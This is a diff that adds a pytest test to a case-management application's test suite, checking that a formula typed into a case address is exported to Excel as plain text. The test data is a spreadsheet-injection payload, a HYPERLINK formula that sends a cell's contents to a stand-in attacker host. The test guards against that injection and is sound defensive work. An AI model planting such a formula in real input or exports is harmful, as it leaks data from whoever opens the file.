@@ -12,8 +12,10 @@ import io
 import json
 import uuid
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
+import openpyxl
 import pytest
 from PIL import Image
 from sqlalchemy import Connection, Engine, create_engine, text
@@ -24,8 +26,9 @@ from seatdesk.db.engine import ServerAddress, connect, make_engine, session_fact
 from seatdesk.demo import DemoResult
 from seatdesk.domain.glossary import Role
 from seatdesk.domain.workflow import RESULT_PHOTO_SETTING
-from seatdesk.services import queues
+from seatdesk.services import exports, queues
 from seatdesk.services.queues import QueueQuery
+from tests.core.conftest import Desk
 
 _PHOTO = """
     SELECT seatdesk_add_photos(:i, :step, ARRAY['p.png'], ARRAY[CAST(:data AS bytea)],
@@ -328,3 +331,19 @@ def _other_departments_case(server: ServerAddress) -> int:
             )).scalar_one())
     finally:
         engine.dispose()
+
+
+def test_an_export_writes_a_formula_typed_into_a_case_as_text(desk: Desk, tmp_path: Path) -> None:
+    # A caller dictates the address; whatever starts with "=" must stay text in Excel,
+    # or opening the export runs it (a link to anywhere, DDE, a sheet's other cells).
+    formula = '=HYPERLINK("http://evil.example/?"&B3,"点此查看")'
+    case_id = desk.new_case(address=formula)
+    number = desk.scalar("SELECT number FROM cases WHERE id = :i", i=case_id)
+    target = tmp_path / "queue.xlsx"
+    with desk.as_(Role.ACCEPTOR) as s:
+        exports.export_queue(s, QueueQuery(text=number), target)
+    sheet = openpyxl.load_workbook(target).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells, "the address is in the export"
+    assert all(c.data_type == "s" for c in cells)
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
